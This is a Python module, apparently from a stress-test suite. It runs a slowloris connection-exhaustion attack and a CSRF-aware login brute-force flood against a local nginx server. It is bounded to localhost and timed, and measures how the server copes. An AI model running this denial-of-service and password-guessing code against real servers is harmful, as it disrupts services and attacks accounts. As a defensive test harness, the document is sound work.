"""The attackers of the scenarios behind nginx, each run as a process of its own (another machine,
as far as the readers' client is concerned: its work does not slow their measurements).

    python -m stress.attacks slowloris --port P --connections 400 --seconds 40
    python -m stress.attacks login-flood --port P --connections 16 --seconds 40 --rate 200

Both are bounded twice, by their connections and by their seconds, and end early on SIGTERM. Each
prints ``ready`` once the attack is in full force, and a JSON summary of what it saw when it ends.
"""
from __future__ import annotations

import argparse
import http.client
import json
import random
import re
import selectors
import signal
import socket
import sys
import threading
import time
import urllib.parse

HOST = "127.0.0.1"
STOP = threading.Event()  # set by SIGTERM: the attack ends and reports


def _running(deadline: float) -> bool:
    return time.monotonic() < deadline and not STOP.is_set()


def _pct(values: list[float], q: float) -> float | None:
    values = sorted(values)
    return round(values[min(len(values) - 1, round(q * (len(values) - 1)))], 2) if values else None


# -- slowloris ----------------------------------------------------------------------------------

def slowloris(port: int, connections: int, seconds: float, interval: float = 1.0, path: str = "/de/") -> dict:
    """Keep ``connections`` connections open, each sending a request head that never ends: the
    request line at once, then one byte of a header every ``interval`` seconds. A connection the
    server drops is opened again while time is left. Reports how long the server held each one."""
    deadline = time.monotonic() + seconds
    selector = selectors.DefaultSelector()
    live: dict[socket.socket, dict] = {}
    stats = {"opened": 0, "connect_failures": 0, "max_open": 0, "dropped_by_server": 0, "answers": {}}
    lives: list[float] = []
    ready = False

    def open_one() -> bool:
        sock = socket.socket()
        sock.settimeout(2)
        try:
            sock.connect((HOST, port))
            sock.sendall(f"GET {path} HTTP/1.1\r\nHost: {HOST}\r\nUser-Agent: slowloris\r\nX-Slow: ".encode())
        except OSError:
            sock.close()
            stats["connect_failures"] += 1
            return False
        sock.setblocking(False)
        now = time.monotonic()
        live[sock] = {"opened": now, "next": now + interval}
        selector.register(sock, selectors.EVENT_READ)
        stats["opened"] += 1
        return True

    def dropped(sock: socket.socket, answer: bytes = b"") -> None:
        lives.append(time.monotonic() - live.pop(sock)["opened"])
        stats["dropped_by_server"] += 1
        if answer:
            status = answer.split(b" ", 2)[1].decode("ascii", "replace") if answer.count(b" ") >= 2 else "?"
            stats["answers"][status] = stats["answers"].get(status, 0) + 1
        selector.unregister(sock)
        sock.close()

    while _running(deadline):
        while len(live) < connections and _running(deadline):
            if not open_one():
                time.sleep(0.05)  # refused or timed out: the server's own limit, counted
                break
        stats["max_open"] = max(stats["max_open"], len(live))
        if not ready and len(live) >= connections:
            print("ready", flush=True)
            ready = True
        for key, _ in selector.select(timeout=0.05):
            try:
                answer = key.fileobj.recv(200)
            except OSError:
                answer = b""
            dropped(key.fileobj, answer)
        now = time.monotonic()
        for sock, state in list(live.items()):
            if state["next"] <= now:
                try:
                    sock.send(b"a")
                    state["next"] = now + interval
                except OSError:
                    dropped(sock)
    if not ready:
        print("ready", flush=True)  # never all open at once: the summary says how many were
    held = [time.monotonic() - state["opened"] for state in live.values()]
    for sock in list(live):
        selector.unregister(sock)
        sock.close()
    selector.close()
    return {**stats, "still_open_at_end": len(held), "dropped_after_s": {"p50": _pct(lives, 0.5), "max": _pct(lives, 1.0)},
            "longest_held_s": round(max(held + lives, default=0), 1)}


# -- login flood --------------------------------------------------------------------------------

CSRF = re.compile(r'name="csrf_token"[^>]*value="([^"]+)"')
NAMES = ("admin", "anna", "editor", "root", "redaktion")


class Guesser(threading.Thread):
    """One attacker from its own address (127.0.0.x: every loopback address reaches nginx): fetches
    the login form once for its CSRF token and cookie, then posts wrong passwords, ``rate`` a
    second (or as fast as the answers come, if they come slower)."""

    def __init__(self, port: int, address: str, deadline: float, seed: int, rate: float):
        super().__init__(daemon=True)
        self.port, self.address, self.deadline, self.every = port, address, deadline, 1 / rate
        self.rng = random.Random(seed)
        self.statuses: dict[str, int] = {}
        self.latencies: list[float] = []

    def connection(self) -> http.client.HTTPConnection:
        return http.client.HTTPConnection(HOST, self.port, timeout=30, source_address=(self.address, 0))

    def form(self, conn: http.client.HTTPConnection) -> tuple[str, str]:
        conn.request("GET", "/editor/login")
        response = conn.getresponse()
        page = response.read().decode("utf-8", "replace")
        cookie = (response.getheader("Set-Cookie") or "").split(";", 1)[0]
        match = CSRF.search(page)
        if match is None:
            raise http.client.HTTPException(f"login form without a CSRF token ({response.status})")
        return match.group(1), cookie

    def run(self) -> None:
        conn = self.connection()
        token = cookie = None
        due = time.monotonic()
        while _running(self.deadline):
            due = max(due + self.every, time.monotonic())  # behind after a slow answer: on at once, no catching up
            STOP.wait(max(0.0, due - time.monotonic()))
            try:
                if token is None:
                    token, cookie = self.form(conn)
                body = urllib.parse.urlencode({"csrf_token": token, "next": "", "name": self.rng.choice(NAMES),
                                               "password": f"guess-{self.rng.getrandbits(40):x}"})
                start = time.perf_counter()
                conn.request("POST", "/editor/login", body=body, headers={
                    "Content-Type": "application/x-www-form-urlencoded", "Cookie": cookie})
                response = conn.getresponse()
                response.read()
                self.latencies.append(time.perf_counter() - start)
                status = str(response.status)
                if response.status == 400:
                    token = None  # CSRF token refused: fetch the form again
            except (OSError, http.client.HTTPException) as exc:
                status = type(exc).__name__
                conn.close()
                conn = self.connection()
                token = None
                time.sleep(0.05)
            self.statuses[status] = self.statuses.get(status, 0) + 1
        conn.close()


def login_flood(port: int, connections: int, seconds: float, rate: float, addresses: int = 0) -> dict:
    """``connections`` guessers, each from its own loopback address (``addresses`` of them, one
    per connection by default), posting wrong passwords for ``seconds``, ``rate`` a second in all.

    The rate is bounded because the attacker shares the machine's CPUs with the server: an
    unbounded one would measure how fast this client can spin, not what the server does."""
    addresses = addresses or connections
    started = time.monotonic()
    deadline = started + seconds
    guessers = [Guesser(port, f"127.0.0.{2 + i % addresses}", deadline, seed=i, rate=rate / connections)
                for i in range(connections)]
    for guesser in guessers:
        guesser.start()
    print("ready", flush=True)
    for guesser in guessers:
        guesser.join(timeout=seconds + 60)
    statuses: dict[str, int] = {}
    for guesser in guessers:
        for status, count in guesser.statuses.items():
            statuses[status] = statuses.get(status, 0) + count
    latencies = [s * 1000 for g in guessers for s in g.latencies]
    elapsed = time.monotonic() - started
    return {"connections": connections, "addresses": addresses, "posts": sum(statuses.values()), "seconds": round(elapsed, 1),
            "per_second": round(sum(statuses.values()) / elapsed, 1), "statuses": dict(sorted(statuses.items())),
            "p50_ms": _pct(latencies, 0.5), "p99_ms": _pct(latencies, 0.99)}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("attack", choices=("slowloris", "login-flood"))
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--connections", type=int, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--interval", type=float, default=1.0, help="slowloris: seconds between the bytes of a head")
    parser.add_argument("--rate", type=float, default=200.0, help="login-flood: posts a second, all guessers together")
    parser.add_argument("--addresses", type=int, default=0, help="login-flood: loopback addresses (default: one per connection)")
    args = parser.parse_args(argv)
    signal.signal(signal.SIGTERM, lambda *_: STOP.set())
    if args.attack == "slowloris":
        summary = slowloris(args.port, args.connections, args.seconds, args.interval)
    else:
        summary = login_flood(args.port, args.connections, args.seconds, args.rate, args.addresses)
    print(json.dumps(summary), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
